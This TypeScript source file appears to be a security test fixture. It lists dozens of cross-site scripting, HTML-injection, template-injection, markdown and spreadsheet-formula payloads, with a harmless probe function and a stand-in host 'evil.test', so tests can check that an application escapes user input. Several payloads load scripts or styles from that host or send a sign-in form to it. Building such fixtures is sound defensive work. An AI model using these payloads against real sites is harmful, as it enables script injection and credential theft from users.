/** The function that a payload calls if it runs; `watchForScripts` defines it in every page and frame. */
export const CALLED = 'ran';
/** A host that nothing of ours names: a request to it, or an element with it, was made from a payload. */
export const FOREIGN_HOST = 'evil.test';
/** The result if a template evaluates `{{40961*2}}` and its like. */
export const COMPUTED = '81922';

const rtl = String.fromCodePoint(0x202e);
const invisible = String.fromCodePoint(0x200b);
const fullWidth = (text: string) =>
  text.replaceAll('<', String.fromCodePoint(0xff1c)).replaceAll('>', String.fromCodePoint(0xff1e));

/** Texts that run, load or become something if they are not treated as text. The short ones fit into a post code. */
export const PAYLOADS: readonly string[] = [
  // Elements and their handlers.
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<SCRIPT SRC=//evil.test/a.js></SCRIPT>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<body onload=ran()>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<marquee onstart=ran()>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<div onpointerenter=ran() style="position:fixed;inset:0">',
  '<template><script>ran()</script></template>',
  '<xss id=x tabindex=1 onfocus=ran()>',
  // Addresses.
  'javascript:ran()',
  '<a href="javascript:ran()">read on</a>',
  '<a href="java&#9;script:ran()">read on</a>',
  'JaVaScRiPt:/*--></title></style></textarea></script>*/ran()',
  'data:text/html,<script>opener.ran()</script>',
  '//evil.test/%0d%0aSet-Cookie:a=b',
  'https://evil.test@127.0.0.1/"onmouseover="ran()',
  // These load or change the page without a script.
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<style>@import "//evil.test/a.css";</style>',
  '<p style="background:url(//evil.test/a.png)">',
  '<form action=//evil.test/><button>Sign in</button></form>',
  '</style><style>*{background:url(//evil.test)}</style>',
  // These end the context of a text.
  '</script><script>ran()</script>',
  '"}]}</script><img src=x onerror=ran()>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '"><svg onload=ran()>',
  "'><svg onload=ran()>",
  '" autofocus onfocus=ran() x="',
  "' onmouseover='ran()",
  '"/><meta property=og:image content=//evil.test/a.png>',
  '--><script>ran()</script><!--',
  ']]><script>ran()</script>',
  '\\u003c/script\\u003e\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '\\"};ran();//',
  // Encoded, and look-alikes.
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '%3Cscript%3Eran()%3C/script%3E',
  fullWidth('<script>ran()</script>'),
  `${rtl}>tpircs/<()nar>tpircs<`,
  `<img${invisible} src=x onerror=ran()>`,
  // Templates, translations and markdown.
  '{{constructor.constructor("ran()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload
  '${40961*2} {{40961*2}} #{40961*2} <%= 40961*2 %>',
  '$t(common:ui.close) {{count}}',
  '[read on](javascript:ran()) ![x](x"onerror="ran())',
  // A cell of a spreadsheet.
  '=HYPERLINK("http://evil.test","x")',
];

/** All of them, a line each, for fields that take long texts. */
export const ALL_PAYLOADS = PAYLOADS.join('\n');
